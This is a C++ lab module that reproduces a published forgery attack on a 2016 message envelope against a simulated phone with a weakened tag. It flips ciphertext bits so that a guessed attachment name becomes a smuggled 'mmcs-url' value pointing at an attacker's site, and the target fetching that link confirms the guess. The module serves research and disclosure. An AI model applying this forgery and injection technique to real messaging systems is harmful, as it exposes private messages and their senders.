// The envelope of 2016 authenticates a body with 40 bits inside of the key. Whoever guesses a message can turn it into
// another one and hope that the 40 bits fit: a right guess is confirmed by the recipient, who fetches what the altered
// message names. Done for real with fewer bits.
#include <chrono>
#include <cmath>
#include <cstdio>

#include "apps/lab/attacks/attacks.h"
#include "apps/lab/legacy/envelope_2016.h"
#include "apps/lab/legacy/person.h"

namespace cairn::lab {
namespace {

using namespace legacy;

const std::vector<std::string> kGuesses = {"the treasurer resigns on monday-draft.pdf",
                                           "the treasurer remains in office-draft.pdf",
                                           "the treasurer is under arrest-draft99.pdf"};

Message with_name(const std::string& name) {
  AttachmentReference reference{
      name, "https://content.example/M0a7/77aa", "MBOF7.C01USN00", std::string(40, 'a'), std::string(64, 'b'), 4711};
  return {{"alice@example.org", "bob@example.org"},
          "As promised, the document; keep it to yourself until we have "
          "met, and tell nobody where it came from.",
          reference};
}

/// A target's phone of 2016, with fewer bits.
struct Target {
  Device phone{"Bob's phone"};
  unsigned tag_bits;
  std::size_t queries = 0;
  /// Takes a message as from `parties.sender`; the URL that it then fetches, empty for none.
  std::string take(const Bytes& wire, const Parties& parties) {
    ++queries;
    const auto body = Receiver2016(tag_bits).open(wire, phone.encryption_key(), parties);
    const auto message = body ? decode_body(*body) : Result<Message>(fail(ErrorCode::malformed, "-"));
    return message && message->attachment ? message->attachment->url : "";
  }
};

/// So many tries before a guess is given up: a right one passes after 2^t on average, and in 8 times as many with a
/// chance of 0.9997.
std::size_t most_tries(unsigned tag_bits) { return std::size_t{8} << tag_bits; }

/// Turns what would be the guessed name into an address of the attacker's, a new one for each try.
std::optional<std::string> confirm(const std::string& guess, ByteView ct, Target& target, const Device& mallory) {
  const Bytes guessed = encode_plist(with_name(guess));
  const std::size_t at = as_text(guessed).find(guess);
  CHECK(at > kInsideBlock);
  const Parties parties{mallory.identity(), target.phone.identity()};
  for (std::size_t i = 0; i < most_tries(target.tag_bits); ++i) {
    std::string wanted = "x\" mmcs-url=\"https://m.example/" + std::to_string(i);
    wanted.resize(guess.size(), '_');
    Bytes altered = to_bytes(ct);
    for (std::size_t k = 0; k < guess.size(); ++k) {
      auto& octet = altered[kRsaBytes + at + k - kInsideBlock];
      octet = static_cast<std::uint8_t>(octet ^ guess[k] ^ wanted[k]);
    }
    const std::string fetched = target.take(sign_envelope(std::move(altered), mallory.signing_key()).encode(), parties);
    if (fetched.starts_with("https://m.example/")) return fetched;
  }
  return std::nullopt;
}

/// Says so when the body that was attacked is not the one that the system would have made of the message.
void disclose_packing(Side& side, const Message& message, ByteView attacked) {
  const Bytes made = encode_body(message);
  if (equal(made, attacked)) return;
  side.reduced.push_back(
      {"The message is not compressed here. The system would have compressed it, since that makes it smaller, and then "
       "it is not enough to alter a name: the forger has to put another compressed text in its place. That was not "
       "tried.",
       "The attacked body is the binary property list as it is, " + std::to_string(attacked.size()) +
           " bytes; gzip makes " + std::to_string(made.size()) +
           " of it. A body that is guessed as a whole gives the key stream in either form; but what the forger makes "
           "of it must then be a gzip file whose first 100 bytes are the true one's, which stand inside of the RSA "
           "block."});
}

}  // namespace

Side forge_2016(const ModelOptions& options) {
  const Device alice("Alice's phone"), mallory("Mallory's phone");
  Target bob;
  bob.tag_bits = options.tag_bits;
  const std::string secret = kGuesses[random_bytes(1)[0] % kGuesses.size()];
  // Not gzipped, as it would be where that is smaller: disclosed below.
  const Bytes body = encode_plist(with_name(secret));
  const auto wire = seal_2016(body, {alice.identity(), bob.phone.identity()}, alice.signing_key(), options.tag_bits);
  const Bytes ct = Envelope::parse(*wire)->ct;
  Side side;
  side.step("Alice", "Bob", "a document, with the envelope of 2016");
  const auto start = std::chrono::steady_clock::now();
  std::string confirmed, fetched;
  std::size_t confirmed_after = 0;
  for (const std::string& guess : kGuesses) {
    const std::size_t before = bob.queries;
    const auto answer = confirm(guess, ct, bob, mallory);
    if (answer) confirmed = guess, fetched = *answer, confirmed_after = bob.queries - before;
    if (answer) break;
  }
  const double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  const bool at_once = confirmed_after == bob.queries;  // no wrong guess was sent
  side.step("Mallory", "Bob",
            std::string(at_once ? "her first guess" : "one guess after the other") +
                ", altered into a link to her own site: " + std::to_string(bob.queries) + " messages in all",
            Step::Kind::swapped);
  side.step("Bob", "Mallory",
            fetched.empty() ? "fetches from none of the links"
                            : "fetches from the link, without a tap of Bob's: that guess was right",
            stolen_if(!fetched.empty()));
  const double rate = static_cast<double>(bob.queries) / seconds;
  char years[64];
  std::snprintf(years, sizeof years, "%.0f", std::pow(2.0, kTagBits) / rate / 3600 / 24 / 365.25);
  side.conclude(!confirmed.empty() && confirmed == secret,
                "with a check of " + std::to_string(options.tag_bits) +
                    " bits, not 40: which of the guessed documents it was, and a forged message that was accepted" +
                    (at_once ? "; her first guess was right; a wrong one was not tried" : ""));
  if (side.outcome == Outcome::succeeded && options.tag_bits < kTagBits) side.outcome = Outcome::weakened;
  side.show("bits of the check", std::to_string(options.tag_bits) + " (the system: 40)");
  side.show("forged messages sent", bob.queries);
  side.show("guesses", kGuesses.size());
  side.show("tries until a wrong guess is given up", most_tries(options.tag_bits));
  side.show("tries that the right one took", confirmed_after);
  side.show("the guess that was confirmed", confirmed.empty() ? "none" : confirmed);
  side.show("the link from which Bob's phone fetched", fetched.empty() ? "none" : fetched.substr(0, fetched.find('_')));
  const std::string tries = std::to_string(std::size_t{1} << options.tag_bits);
  side.reduced.push_back({"The check has " + std::to_string(options.tag_bits) +
                              " bits instead of 40, so a forgery of the right guess passes once in " + tries +
                              " tries; one of a wrong guess never gives the link, and is given up after eight times as "
                              "many. With 40 bits it is once in about a million million: at this machine's " +
                              std::to_string(static_cast<int>(rate)) + " tries a second against one phone, " + years +
                              " years for the right guess, and about eight times that to give up a wrong one.",
                          "2^t tries for t bits of the tag (Bellare and Stepanovs 2020). Tries are on line, and can be "
                          "spread over phones. The message key itself is not found."});
  disclose_packing(side, with_name(secret), body);
  return side;
}

}  // namespace cairn::lab
